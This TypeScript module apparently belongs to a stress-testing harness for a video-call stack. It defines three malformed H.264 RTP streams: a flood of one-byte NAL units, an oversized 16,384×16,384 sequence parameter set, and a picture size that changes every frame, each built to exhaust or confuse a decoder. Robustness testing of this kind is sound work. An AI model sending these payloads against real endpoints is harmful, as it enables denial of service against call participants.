/** Attacks by what the payload says: RFC 6184, ITU-T H.264. */
import { BitWriter, concatBytes } from '@callcast/core';
import { NalUnitType, nalUnitType } from '@callcast/media';
import { packetizeH264 } from '@callcast/rtp';
import type { Attack } from './attack.ts';
import { RtpStream } from './rtp-stream.ts';

const MAX_PAYLOAD_BYTES = 1_150;
const PICTURE_TICKS = 3_000;

/** STAP-A (§5.7.1) full of NAL units of one byte, each a non-IDR slice without anything in it. */
const TINY_NAL_UNITS = concatBytes([
  Uint8Array.of(0x78),
  ...new Array<Uint8Array>(Math.floor(MAX_PAYLOAD_BYTES / 3)).fill(Uint8Array.of(0, 1, 0x41)),
]);
const PACKETS_OF_64_KB = Math.ceil(65_536 / TINY_NAL_UNITS.length);

/** §7.3.2.1.1, level 6.2, constrained baseline: a picture of the given size in macroblocks. */
function sequenceParameterSet(widthInMbs: number, heightInMbs: number): Uint8Array {
  const bits = new BitWriter();
  bits.writeBits(0x67, 8);
  bits.writeBits(66, 8);
  bits.writeBits(0xc0, 8);
  bits.writeBits(62, 8);
  bits.writeUe(0); // seq_parameter_set_id
  bits.writeUe(0); // log2_max_frame_num_minus4
  bits.writeUe(2); // pic_order_cnt_type
  bits.writeUe(16); // max_num_ref_frames
  bits.writeBits(0, 1);
  bits.writeUe(widthInMbs - 1);
  bits.writeUe(heightInMbs - 1);
  bits.writeBits(0b1100, 4); // frames only, direct_8x8_inference, no cropping, no VUI
  bits.writeBits(1, 1);
  return bits.toBytes();
}

/** CAVLC, one slice group, for SPS 0. */
const PICTURE_PARAMETER_SET = Uint8Array.of(0x68, 0xce, 0x38, 0x80);

export const h264Attacks: readonly Attack[] = [
  {
    name: 'pictures of 64 KB in NAL units of one byte',
    datagramsPerSecond: 2_000,
    *datagrams({ ssrc }) {
      const video = new RtpStream('video', ssrc.video);
      for (;;) {
        for (let i = 1; i <= PACKETS_OF_64_KB; i++)
          yield video.next(TINY_NAL_UNITS, { marker: i === PACKETS_OF_64_KB });
        video.timestamp += PICTURE_TICKS;
      }
    },
  },
  {
    name: 'an SPS of 16,384 × 16,384',
    datagramsPerSecond: 1_000,
    *datagrams({ ssrc, clip }) {
      const video = new RtpStream('video', ssrc.video);
      for (;;)
        for (const { nalUnits } of clip.pictures) {
          const slices = nalUnits.filter((nalUnit) => nalUnitType(nalUnit) === NalUnitType.IDR_SLICE);
          const picture = [sequenceParameterSet(1_024, 1_024), PICTURE_PARAMETER_SET, ...slices];
          const payloads = packetizeH264(picture, MAX_PAYLOAD_BYTES);
          for (const [i, payload] of payloads.entries())
            yield video.next(payload, { marker: i === payloads.length - 1 });
          video.timestamp += PICTURE_TICKS;
        }
    },
  },
  {
    name: 'another picture size with every picture',
    datagramsPerSecond: 1_000,
    *datagrams({ ssrc, clip }) {
      const video = new RtpStream('video', ssrc.video);
      const slices =
        clip.pictures[0]?.nalUnits.filter((nalUnit) => nalUnitType(nalUnit) === NalUnitType.IDR_SLICE) ?? [];
      for (let size = 0; ; size = (size + 1) % 100) {
        const picture = [sequenceParameterSet(20 + size, 20), PICTURE_PARAMETER_SET, ...slices];
        const payloads = packetizeH264(picture, MAX_PAYLOAD_BYTES);
        for (const [i, payload] of payloads.entries()) yield video.next(payload, { marker: i === payloads.length - 1 });
        video.timestamp += PICTURE_TICKS;
      }
    },
  },
];
